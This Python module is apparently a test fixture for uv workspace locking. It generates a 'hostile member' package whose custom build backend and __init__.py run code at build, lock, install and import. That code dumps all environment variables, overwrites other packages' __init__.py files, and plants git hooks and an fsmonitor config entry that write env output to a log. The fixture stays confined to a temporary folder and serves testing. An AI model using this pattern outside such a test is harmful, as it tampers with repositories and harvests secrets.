"""A member that does harm wherever its code runs: as it is built, locked, installed, imported.

It looks into every folder that it is led to, by its environment or by where it runs, up to
the folder that was made for it; it does not search the machine.
"""

import json
from pathlib import Path

from .workspaces import MANIFEST

# Run by a build or by an import; `where` is which.
ATTACK = '''\
import json, os, pathlib, sys, tempfile


def attack(where):
    """Harm all that is near, and write down what is seen."""
    log = pathlib.Path({log!r})
    number = len(list(log.iterdir()))
    seen = {{"where": where, "environment": dict(os.environ), "harmed": []}}
    for folder in near():
        for path in sorted(folder.rglob("*")):
            try:
                harm(path, seen["harmed"], log)
            except OSError:
                continue
    (log / f"{{number}}-{{os.getpid()}}-{{where}}.json").write_text(json.dumps(seen))


def near():
    """Return the folders that were made for this: those of its paths below the temporary one."""
    led = [os.getcwd(), sys.prefix, *sys.path, *os.environ.values()]
    words = [word.removeprefix("file://") for text in led for word in text.split()]
    words += [word.removeprefix("url.file://").removesuffix(".insteadOf") for word in words]
    top = pathlib.Path({temporary!r})
    found = set()
    for word in words:
        path = pathlib.Path(word)
        if path.is_absolute() and top in path.parents:
            found.add(top / path.relative_to(top).parts[0])
    return found


def harm(path, harmed, log):
    """Change the code of other members, and leave hooks in every repository."""
    is_other = path.name == "__init__.py" and path.parent.name.startswith("zq_")
    if is_other and path.parent.name != {module!r}:
        path.write_text("harmed = True\\n")
        harmed.append(str(path))
    if path.name == "HEAD" and (path.parent / "objects").is_dir():
        hooks = path.parent / "hooks"
        hooks.mkdir(exist_ok=True)
        for name in ("reference-transaction", "post-checkout", "pre-commit", "pre-push"):
            hook = hooks / name
            hook.write_text(f"#!/bin/sh\\nenv > {{log}}/hook-$$.json\\n")
            hook.chmod(0o755)
        with (path.parent / "config").open("a") as config:
            config.write(f'[core]\\nfsmonitor = "env > {{log}}/monitor-$$.json; false"\\n')
        harmed.append(str(path.parent))
'''
BACKEND = """\
import base64, hashlib, io, os, pathlib, tarfile, tomllib, zipfile

PROJECT = tomllib.loads(pathlib.Path("pyproject.toml").read_text())["project"]
NAME, VERSION = PROJECT["name"], PROJECT["version"]
STEM = NAME.replace("-", "_") + "-" + VERSION
METADATA = "Metadata-Version: 2.1\\nName: " + NAME + "\\nVersion: " + VERSION + "\\n"
METADATA += "Requires-Python: >=3.11\\n"


def build_sdist(folder, settings=None):
    attack("sdist")
    with tarfile.open(pathlib.Path(folder, STEM + ".tar.gz"), "w:gz") as archive:
        for path in sorted(pathlib.Path().rglob("*")):
            if path.is_file() and ".git" not in path.parts and "dist" not in path.parts:
                archive.add(path, STEM + "/" + path.as_posix())
        entry = tarfile.TarInfo(STEM + "/PKG-INFO")
        entry.size = len(METADATA)
        archive.addfile(entry, io.BytesIO(METADATA.encode()))
    return STEM + ".tar.gz"


def build_wheel(folder, settings=None, metadata=None):
    attack("wheel")
    return pack(folder)


def build_editable(folder, settings=None, metadata=None):
    attack("editable")
    return pack(folder)


def prepare_metadata_for_build_editable(folder, settings=None):
    attack("lock")
    return metadata(folder)


def prepare_metadata_for_build_wheel(folder, settings=None):
    attack("metadata")
    return metadata(folder)


def metadata(folder):
    info = pathlib.Path(folder, STEM + ".dist-info")
    info.mkdir()
    (info / "METADATA").write_text(METADATA)
    (info / "WHEEL").write_text("Wheel-Version: 1.0\\nGenerator: x\\n")
    return info.name


def pack(folder):
    files = {
        path.relative_to("src").as_posix(): path.read_bytes()
        for path in sorted(pathlib.Path("src").rglob("*.py"))
    }
    info = STEM + ".dist-info/"
    files[info + "METADATA"] = METADATA.encode()
    files[info + "WHEEL"] = (
        b"Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    )
    rows = [record(name, content) for name, content in files.items()]
    files[info + "RECORD"] = "".join(rows + [info + "RECORD,,\\n"]).encode()
    name = STEM + "-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(folder, name), "w") as archive:
        for path, content in files.items():
            archive.writestr(path, content)
    return name


def record(name, content):
    digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
    return name + ",sha256=" + digest + "," + str(len(content)) + "\\n"
"""


def hostile_member(name: str, log: Path, temporary: Path) -> dict[str, str]:
    """Return the files of a member that does harm, and that uv has to build to lock it.

    It writes down in `log` what it saw; what is made for it lies in `temporary`.
    """
    module = name.replace("-", "_")
    attack = ATTACK.format(log=str(log), temporary=str(temporary), module=module)
    plain = MANIFEST.format(name=name, version="0.1.0", dependencies="", sources="", more="")
    manifest = (
        plain.replace("dependencies = []", 'dynamic = ["dependencies"]')
        .replace('requires = ["uv_build>=0.9,<1"]', "requires = []")
        .replace('build-backend = "uv_build"', 'build-backend = "backend"\nbackend-path = ["."]')
    )
    folder = f"packages/{name}"
    return {
        f"{folder}/pyproject.toml": manifest,
        f"{folder}/README.md": f"# {name}\n",
        f"{folder}/backend.py": f"{attack}\n\n{BACKEND}",
        f"{folder}/src/{module}/__init__.py": f"{attack}\n\nattack('import')\n",
    }


def accounts(log: Path) -> list[dict[str, object]]:
    """Return what a hostile member wrote down, in its order."""
    paths = sorted(log.glob("*-*-*.json"), key=lambda path: path.stat().st_mtime_ns)
    return [json.loads(path.read_text("utf-8")) for path in paths]
